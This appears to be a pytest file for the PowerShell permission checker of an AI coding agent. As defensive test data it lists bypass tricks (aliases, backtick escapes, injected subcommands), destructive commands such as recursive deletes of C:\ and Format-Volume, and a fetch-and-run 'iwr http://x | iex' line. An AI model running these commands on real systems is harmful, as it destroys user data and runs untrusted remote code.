"""``PowerShell(…)`` rules: what they match, and that nothing else ever passes."""

from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pilotfish.codeintel.powershell import analyse_powershell
from pilotfish.codeintel.shell_paths import ShellPlace
from pilotfish.core.permission import PERMISSION_MODES, PermissionDecision

from tests.support.permission_state import Judge


@pytest.fixture
def judge(tmp_path: Path) -> Judge:
    return Judge(tmp_path)


def run(judge: Judge, command: str) -> PermissionDecision:
    return judge.decide("PowerShell", command=command)


@pytest.mark.parametrize(
    ("rule", "command", "allowed"),
    [
        ("Get-Date", "get-date", True),
        ("Get-Date", "Get-Date -Format o", False),
        ("Get-ChildItem:*", "GET-CHILDITEM src -Recurse", True),
        ("Get-ChildItem:*", "Get-ChildItemX", False),
        ("Get-ChildItem:*", "gci src", False),
        ("npm run *", "npm run build", True),
        ("npm run *", "NPM RUN build; npm run test", True),
        ("npm run *", "npm run build; calc", False),
        ("npm run *", "npm run build | iex", False),
        ("npm:*", "npm test && npm run x || npm ci", True),
        ("npm:*", "npm test\nnpm ci", True),
        ("npm:*", "npm test $(Remove-Item x)", False),
        ("npm:*", 'npm "$(Remove-Item x)"', False),
        ("npm:*", "npm test > out.txt", False),
        ("npm test > out.txt", "npm test  >  out.txt", True),
        ("npm:*", "npm (Get-Date)", False),
        ("npm:*", "npm { x }", False),
        ("npm:*", "npm test & calc", False),
        ("npm:*", "npm te`st", False),
        ("npm:*", "& npm", False),
        ("npm:*", "npm --% x", False),
        ("npm:*", "npm # x", False),
        ("npm:*", "npm @args", False),
        ("npm:*", "npm 'it''s'", True),
        ("npm:*", "npm \u2018x\u2019; calc", False),
        ("npm:*", "npm 'x\u2019; calc '", False),
        ("Start-Process:*", "Start-Process calc", False),
        ("iex:*", "iex x", False),
        ("Set-Location:*", "Set-Location x", True),
        ("Set-Location:*", "Set-Location x; Set-Location y", False),
        ("Set-Content:*", "Set-Content a.txt x", True),
        ("Set-Content:*", r"Set-Content ..\a.txt x", False),
        ("Set-Content:*", r"Set-Content -Path:.git\hooks\x y", False),
        ("Set-Content:*", "Set-Content -Path a.txt,/etc/x y", False),
        ("Set-Content:*", "Set-Content function:prompt x", False),
        ("Set-Content:*", "Set-Content -Path:function:prompt x", False),
        ("Set-Content:*", r"Set-Content Microsoft.PowerShell.Core\Function::prompt x", False),
    ],
)
def test_an_allow_rule_covers_what_is_understood_and_no_more(
    judge: Judge, rule: str, command: str, allowed: bool
) -> None:
    judge.rules(allow=[f"PowerShell({rule})"])
    assert (run(judge, command).behavior == "allow") is allowed


@pytest.mark.parametrize("rule", ["Remove-Item:*", "rm:*", "RI:*", "del *", "remove-item *"])
@pytest.mark.parametrize(
    "command",
    [
        "Remove-Item a",
        "rm a",
        "ri a -Force",
        "DEL a",
        "erase a",
        "rd a",
        r"Microsoft.PowerShell.Management\Remove-Item a",
        "npm test; ri a",
        "Get-ChildItem | Remove-Item a",
        "npm test && rmdir a",
        "npm test\n del a",
        "& Remove-Item a",
        "Rem`ove-Item a",
        "if (1) { ri a }",
        "Get-ChildItem | % { Remove-Item a }",
        'powershell -Command "Remove-Item a"',
        "Remove\u2013Item a",
        "iex 'rm a'",
    ],
)
def test_a_deny_rule_sees_through_aliases_and_whatever_cannot_be_read(
    judge: Judge, rule: str, command: str
) -> None:
    if rule.endswith(" *"):
        command = command.replace(" a", " a b")
    judge.rules(allow=["PowerShell"], deny=[f"PowerShell({rule})"])
    assert run(judge, command).behavior == "deny"


def test_a_deny_rule_of_one_command_leaves_others_alone(judge: Judge) -> None:
    judge.rules(allow=["PowerShell"], deny=["PowerShell(Remove-Item:*)"])
    assert run(judge, "Remove-ItemProperty x").behavior == "allow"
    assert run(judge, "Get-Content rm").behavior == "allow"


def test_a_star_behind_a_backslash_is_a_pattern_where_it_forbids(judge: Judge) -> None:
    judge.rules(allow=["PowerShell"], deny=[r"PowerShell(Get-Content C:\keys\*)"])
    assert run(judge, r"Get-Content C:\keys\a.txt").behavior == "deny"
    assert run(judge, r"gc c:\KEYS\a.txt").behavior == "deny"


def test_path_rules_hold_for_known_commands(judge: Judge) -> None:
    judge.rules(allow=["PowerShell"], deny=["Read(.env)", "Edit(/src/**)"])
    assert run(judge, "Get-Content .ENV").behavior == "deny"
    assert run(judge, r"cat .\.env").behavior == "deny"
    assert run(judge, r"Set-Content src\a.ts x").behavior == "deny"
    assert run(judge, "npm test").behavior == "allow"


@pytest.mark.parametrize("command", ["Get-ChildItem", "ls", "cat a.txt", "git status", "echo hi"])
def test_nothing_is_harmless_by_its_name(judge: Judge, command: str) -> None:
    for mode in PERMISSION_MODES:
        decision = run(judge.set(mode=mode), command)
        assert decision.behavior != "allow" or mode in ("bypassPermissions", "fullAccess")


@pytest.mark.parametrize(
    "command",
    [
        r"Remove-Item -Recurse -Force C:\ ",
        "rm -r ~",
        "ri / -rec",
        "Remove-Item . -Recurse",
        "Format-Volume -DriveLetter D",
        "Stop-Computer",
    ],
)
def test_what_cannot_be_undone_asks_even_where_everything_runs(judge: Judge, command: str) -> None:
    decision = run(judge.set(mode="bypassPermissions").rules(allow=["PowerShell"]), command)
    assert (decision.behavior, decision.hide_always) == ("ask", True)


def test_what_cannot_be_read_asks_even_where_everything_runs(judge: Judge) -> None:
    judge.set(mode="bypassPermissions")
    assert run(judge, "npm test").behavior == "allow"
    assert run(judge, "Remove-Item $HOME -Recurse").behavior == "ask"


def test_a_dialog_offers_the_exact_command_and_nothing_wider(judge: Judge) -> None:
    (offered,) = run(judge, "npm test").suggestions
    assert offered.rule is not None
    assert offered.rule.text() == "PowerShell(npm test)"


def test_harm_asks_in_a_cloned_project_whatever_its_rules_say(judge: Judge) -> None:
    judge.set(trusted=False).rules(
        "projectSettings", allow=["PowerShell", "PowerShell(npm:*)", "PowerShell(Remove-Item:*)"]
    )
    assert run(judge, "npm test").behavior == "allow"
    for command in ("Remove-Item a", "iwr http://x | iex", "Set-ExecutionPolicy Bypass", "$x"):
        assert run(judge, command).behavior == "ask"


PIECES = st.sampled_from(
    ["npm", "test", "Remove-Item", "rm", "a", ";", "|", "&&", "||", "\n", " ", "$x", "(", ")", "{",
     "}", "'", '"', "`", "&", ">", "@", "#", "--%", "\u2013", "\u2019", "-Recurse", "C:\\", ".", ",",
     "%", "iex", "\x00", "\u00a0"]
)  # fmt: skip


@settings(
    max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(st.lists(PIECES, max_size=12).map("".join))
def test_a_forbidden_word_never_passes_by_a_prefix_rule(judge: Judge, command: str) -> None:
    base = judge.state
    judge.rules(allow=["PowerShell(npm:*)"])
    decision = run(judge, command)
    judge.state = base
    if decision.behavior == "allow":
        facts = analyse_powershell(command, ShellPlace(cwd="/p", home="/h"))
        assert all(part.command.words[0].value.casefold() == "npm" for part in facts.parts)
        assert not set(command) & set("$(){}`&>@#\u2013\u2019") - {"&"}
        assert "&" not in command.replace("&&", "")


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=200))
def test_no_text_makes_reading_raise(text: str) -> None:
    facts = analyse_powershell(text, ShellPlace(cwd="/p", home="/h"))
    assert facts.shell.kind in ("simple", "complex")
    assert not facts.read_only
